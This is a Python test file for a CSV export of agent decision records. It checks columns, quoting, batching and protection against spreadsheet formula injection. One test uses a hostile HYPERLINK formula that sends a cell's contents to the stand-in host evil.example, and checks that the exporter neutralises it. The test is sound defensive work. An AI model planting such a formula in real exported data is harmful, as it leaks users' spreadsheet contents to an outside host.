import csv
import io
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from agent.listing import FoundDecision
from integrations.console.exporting import COLUMNS, LINES_AT_ONCE, cell, table

ONE = FoundDecision(
    1, "dec_1", datetime(2026, 11, 10, 10, tzinfo=UTC), "renewal", "acc_1", "Alder, \"Foods\"", "contract", "ctr_1", "Line one\nline two",
    "renewal-play",
    "Open the renewal talk", "ask", None, "pb1", "prior-1", ("mode_suggest", "quiet_hours"), "asking",
)  # fmt: skip


async def lines(*decisions: FoundDecision) -> list[list[str]]:
    async def each() -> AsyncIterator[FoundDecision]:
        for one in decisions:
            yield one

    text = "".join([part async for part in table(each())])
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


async def test_every_value_stands_in_its_column() -> None:
    head, row = await lines(ONE)
    told = dict(zip(head, row, strict=True))
    assert tuple(head) == COLUMNS
    assert told["account name"] == 'Alder, "Foods"'
    assert told["subject"] == "Line one\nline two"
    assert told["decided at (UTC)"] == "2026-11-10 10:00:00"
    assert told["reasons"] == "mode suggest, quiet hours"
    assert told["outcome"] == ""


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
async def test_no_cell_is_a_formula(begin: str) -> None:
    hostile = f'{begin}HYPERLINK("http://evil.example/?"&A1)'
    _, row = await lines(replace(ONE, account_name=hostile, subject=hostile, account=hostile, subject_id="x"))
    assert [value for value in row if value.startswith(begin)] == []
    assert row[COLUMNS.index("account name")] == f"'{hostile}"


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Alder Foods", "12%", "a=b", "", "'quoted'"):
        assert cell(text) == text
    assert cell(None) == ""


async def test_a_long_table_is_whole() -> None:
    many = [replace(ONE, id=f"dec_{number}") for number in range(LINES_AT_ONCE * 2 + 7)]
    assert [row[0] for row in await lines(*many)] == ["decision", *(one.id for one in many)]
